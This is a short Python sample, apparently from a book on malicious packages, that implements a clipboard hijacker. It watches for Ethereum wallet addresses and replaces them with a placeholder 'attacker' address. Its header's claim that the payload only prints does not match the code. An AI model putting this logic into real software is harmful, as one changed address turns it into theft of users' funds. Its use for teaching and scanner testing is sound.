# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import re
import time

import pyperclip

_WALLET = re.compile(r"0x[a-fA-F0-9]{40}")
_MINE = "0x" + "0" * 40  # an inert stand-in for the attacker's address


def _watch():
    while True:
        text = pyperclip.paste()
        if _WALLET.fullmatch(text or ""):
            pyperclip.copy(_MINE)
        time.sleep(1)
